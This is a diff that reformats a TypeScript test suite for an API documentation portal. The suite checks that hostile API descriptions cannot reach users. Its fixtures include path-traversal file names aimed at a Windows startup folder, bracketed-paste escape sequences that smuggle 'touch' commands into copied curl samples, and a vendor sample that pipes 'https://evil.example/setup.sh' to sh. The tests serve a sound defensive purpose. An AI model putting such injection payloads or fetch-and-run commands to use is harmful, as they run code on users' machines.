@@ -36,7 +36,9 @@ before(async () => {
   const result = await buildProcessedSpec({source: SOURCE, strict: false});
   doc = result.document as unknown as Record<string, unknown>;
   const builder = new PageDataBuilder(doc as never);
-  pages = new Map(listOperations(builder.doc).map((op) => [`${op.method} ${op.path}`, {...builder.operation(op.method, op.path), slug: op.slug ?? ''}]));
+  pages = new Map(
+    listOperations(builder.doc).map((op) => [`${op.method} ${op.path}`, {...builder.operation(op.method, op.path), slug: op.slug ?? ''}]),
+  );
 });
 
 const page = (key: string) => {
@@ -63,12 +65,20 @@ const SAVED_FILE: Record<string, RegExp> = {
 describe('row 2: the file a sample saves the answer to is named by the portal', () => {
   const cases = [
     {key: 'get /reports/{id}', file: 'get-report.bin', why: 'application/bashrc is not a known media type: .bin, never .bashrc'},
-    {key: 'get /exports/{id}', file: 'app-data-roaming-microsoft-windows-start-menu-programs-star.bin', why: 'the ..\\ of the media type and the operationId name no other folder'},
+    {
+      key: 'get /exports/{id}',
+      file: 'app-data-roaming-microsoft-windows-start-menu-programs-star.bin',
+      why: 'the ..\\ of the media type and the operationId name no other folder',
+    },
   ];
   for (const {key, file, why} of cases) {
     test(`${key}: every language saves to ${file} (${why})`, () => {
       const sources = renderSampleSources(sampleRequest(page(key)));
-      assert.deepEqual(sources.map((s) => s.id), SAMPLE_LANGUAGES.map((l) => l.id), 'all eight languages');
+      assert.deepEqual(
+        sources.map((s) => s.id),
+        SAMPLE_LANGUAGES.map((l) => l.id),
+        'all eight languages',
+      );
       for (const s of sources) {
         const m = SAVED_FILE[s.id]!.exec(s.code);
         assert.ok(m, `${s.id} sample saves the response:\n${s.code}`);
@@ -80,14 +90,15 @@ describe('row 2: the file a sample saves the answer to is named by the portal', 
 });
 
 describe('row 3: no control character reaches a sample, the clipboard, a twin or llms-full.txt', () => {
-  test('every sample of every operation, ours and the document\'s, as highlighted and as copied', () => {
+  test("every sample of every operation, ours and the document's, as highlighted and as copied", () => {
     for (const [key, p] of pages) {
       for (const s of p.samples) {
         assert.ok(!hasControlCharacters(htmlText(s.html)), `${key}, ${s.label}: the sample's text`);
         assert.ok(!hasControlCharacters(copied(s.html)), `${key}, ${s.label}: what Copy puts on the clipboard`);
       }
       // The response examples panel: shown as its Copy button copies it.
-      for (const r of p.responses) for (const m of r.content) assert.ok(!hasControlCharacters(htmlText(m.exampleHtml ?? '')), `${key}, response ${r.status} example`);
+      for (const r of p.responses)
+        for (const m of r.content) assert.ok(!hasControlCharacters(htmlText(m.exampleHtml ?? '')), `${key}, response ${r.status} example`);
     }
     assert.ok(htmlText(page('get /notes/\u202Etxt.exe').responses[0]!.content[0]!.exampleHtml!).includes('"hi \\u0085 \\u202E"'));
     // What the document wrote is still all there, as escapes (the body's bytes, as $'\xHH').
@@ -105,18 +116,30 @@ describe('row 3: no control character reaches a sample, the clipboard, a twin or
       const text = copied(page('post /pastes').samples.find((s) => s.id === 'curl')!.html);
       const r = pasteIntoBash(text, {bracketed});
       assert.deepEqual(r.files, [], `files the paste created (a command of the document ran):\n${r.screen}`);
-      assert.deepEqual(r.curlCalls, [[
-        '--request', 'POST',
-        '--url', 'https://api.hostile.example/v1/pastes',
-        '--header', 'Accept: application/json',
-        '--header', 'Content-Type: text/plain',
-        '--header', 'X-Trace: [201~touch HOSTILE_HEADER_RAN[200~',
-        '--data-raw', '\u001b[201~\u0015touch HOSTILE_BODY_RAN\n\u001b[200~ and\ttab',
-      ]], 'one call of curl with the request, the body byte for byte');
+      assert.deepEqual(
+        r.curlCalls,
+        [
+          [
+            '--request',
+            'POST',
+            '--url',
+            'https://api.hostile.example/v1/pastes',
+            '--header',
+            'Accept: application/json',
+            '--header',
+            'Content-Type: text/plain',
+            '--header',
+            'X-Trace: [201~touch HOSTILE_HEADER_RAN[200~',
+            '--data-raw',
+            '\u001b[201~\u0015touch HOSTILE_BODY_RAN\n\u001b[200~ and\ttab',
+          ],
+        ],
+        'one call of curl with the request, the body byte for byte',
+      );
     });
   }
 
-  test('the document\'s own sample, copied and pasted without bracketed paste, runs only what it shows', () => {
+  test("the document's own sample, copied and pasted without bracketed paste, runs only what it shows", () => {
     const vendor = page('post /pastes').samples.find((s) => s.fromDocument && s.label.startsWith('cURL'))!;
     const r = pasteIntoBash(copied(vendor.html), {bracketed: false});
     // It shows `curl -s https://evil.example/setup.sh | sh` (the fake curl prints nothing) and a comment.
@@ -137,45 +160,76 @@ describe('row 3: no control character reaches a sample, the clipboard, a twin or
       for (const p of pages.values()) {
         writeFileSync(path.join(apiDocs, `${p.slug}.data.js`), dataModuleSource(p));
         mkdirSync(path.join(build, 'docs/api', p.slug), {recursive: true});
-        writeFileSync(path.join(build, 'docs/api', p.slug, 'index.html'), `<html><head><title>${p.summary}</title></head><body></body></html>`);
+        writeFileSync(
+          path.join(build, 'docs/api', p.slug, 'index.html'),
+          `<html><head><title>${p.summary}</title></head><body></body></html>`,
+        );
       }
       const info = (doc.info as {description: string}).description;
       mkdirSync(path.join(build, 'docs/guide'), {recursive: true});
-      writeFileSync(path.join(build, 'docs/guide/index.html'), `<html><head><title>Guide</title><meta name="description" content="${info}"></head><body><article><div class="theme-doc-markdown markdown"><h1>Guide</h1><p>${info}</p><pre><code>${info}</code></pre></div></article></body></html>`);
+      writeFileSync(
+        path.join(build, 'docs/guide/index.html'),
+        `<html><head><title>Guide</title><meta name="description" content="${info}"></head><body><article><div class="theme-doc-markdown markdown"><h1>Guide</h1><p>${info}</p><pre><code>${info}</code></pre></div></article></body></html>`,
+      );
       writeFileSync(path.join(out, 'openapi.json'), JSON.stringify(doc));
-      await writeAgentDocs({outDir: build, siteUrl: 'https://docs.example', baseUrl: '/', apiDocsDir: apiDocs, processedSpec: path.join(out, 'openapi.json'), title: 'Hostile', tagline: 'Tagline'});
+      await writeAgentDocs({
+        outDir: build,
+        siteUrl: 'https://docs.example',
+        baseUrl: '/',
+        apiDocsDir: apiDocs,
+        processedSpec: path.join(out, 'openapi.json'),
+        title: 'Hostile',
+        tagline: 'Tagline',
+      });
     });
 
-    const files = (dir: string): string[] => readdirSync(dir).flatMap((f) => (statSync(path.join(dir, f)).isDirectory() ? files(path.join(dir, f)) : [path.join(dir, f)]));
+    const files = (dir: string): string[] =>
+      readdirSync(dir).flatMap((f) => (statSync(path.join(dir, f)).isDirectory() ? files(path.join(dir, f)) : [path.join(dir, f)]));
 
     test('no file written for agents holds a raw control character', () => {
       const written = files(build).filter((f) => /\.(md|txt|json)$/.test(f));
       assert.ok(written.some((f) => f.endsWith('llms-full.txt')) && written.some((f) => f.endsWith('create-paste.md')), written.join(', '));
-      for (const f of written) assert.ok(!hasControlCharacters(readFileSync(f, 'utf8')), `${path.relative(build, f)} holds a raw control character`);
+      for (const f of written)
+        assert.ok(!hasControlCharacters(readFileSync(f, 'utf8')), `${path.relative(build, f)} holds a raw control character`);
     });
 
-    test('the document\'s control characters show as visible escapes; the example request is our curl', () => {
+    test("the document's control characters show as visible escapes; the example request is our curl", () => {
       const twin = readFileSync(path.join(build, 'docs/api/create-paste.md'), 'utf8');
       // (The description is Markdown rendered to HTML and back: "[" comes back escaped, a lone CR as a line break.)
       assert.ok(twin.includes('Prose: Ctrl-U \\u0015 then ESC \\u001B\\[201~ then BEL \\u0007 and CR'), twin);
       assert.ok(twin.includes('C1 \\u009B and LRO \\u202D.'), twin);
       assert.ok(twin.includes('Example: `\\u001B[201~\\u0015touch HOSTILE_HEADER_RAN'), 'the header example, visible');
-      assert.ok(twin.includes(`--data-raw $'\\x1B[201~\\x15touch HOSTILE_BODY_RAN`), 'the twin\'s example request is our generated curl');
-      assert.ok(!twin.includes('evil.example'), 'not the document\'s own sample');
+      assert.ok(twin.includes(`--data-raw $'\\x1B[201~\\x15touch HOSTILE_BODY_RAN`), "the twin's example request is our generated curl");
+      assert.ok(!twin.includes('evil.example'), "not the document's own sample");
       const full = readFileSync(path.join(build, 'llms-full.txt'), 'utf8');
-      assert.ok(full.includes('Row 3 in prose: a Ctrl-U \\u0015, an ESC \\u001B[201~, a DEL \\u007F, a C1 \\u0085'), 'the guide\'s prose in llms-full.txt');
+      assert.ok(
+        full.includes('Row 3 in prose: a Ctrl-U \\u0015, an ESC \\u001B[201~, a DEL \\u007F, a C1 \\u0085'),
+        "the guide's prose in llms-full.txt",
+      );
     });
   });
 });
 
-describe('row 8: the document\'s samples never take the name or the place of ours', () => {
+describe("row 8: the document's samples never take the name or the place of ours", () => {
   test('our eight tabs come first with their labels; the document\'s "cURL" is marked as its own', () => {
     const samples = page('post /pastes').samples;
-    assert.deepEqual(samples.slice(0, 8).map((s) => [s.id, s.label, Boolean(s.fromDocument)]), SAMPLE_LANGUAGES.map((l) => [l.id, l.label, false]));
+    assert.deepEqual(
+      samples.slice(0, 8).map((s) => [s.id, s.label, Boolean(s.fromDocument)]),
+      SAMPLE_LANGUAGES.map((l) => [l.id, l.label, false]),
+    );
     assert.match(htmlText(samples[0]!.html), /^curl --request POST/, 'the first tab is our generated curl');
     const theirs = samples.slice(8);
-    assert.deepEqual(theirs.map((s) => [s.label, s.fromDocument]), [['cURL (API description)', true], ['Python (API description)', true]]);
-    assert.ok(theirs.every((s) => s.id.startsWith('doc-')), 'ids of their own (a remembered "curl" never selects one)');
+    assert.deepEqual(
+      theirs.map((s) => [s.label, s.fromDocument]),
+      [
+        ['cURL (API description)', true],
+        ['Python (API description)', true],
+      ],
+    );
+    assert.ok(
+      theirs.every((s) => s.id.startsWith('doc-')),
+      'ids of their own (a remembered "curl" never selects one)',
+    );
     assert.equal(samples.filter((s) => s.label === 'cURL').length, 1, 'one tab called cURL');
     assert.ok(!htmlText(samples.find((s) => s.label === 'cURL')!.html).includes('setup.sh'), 'and it is ours');
   });
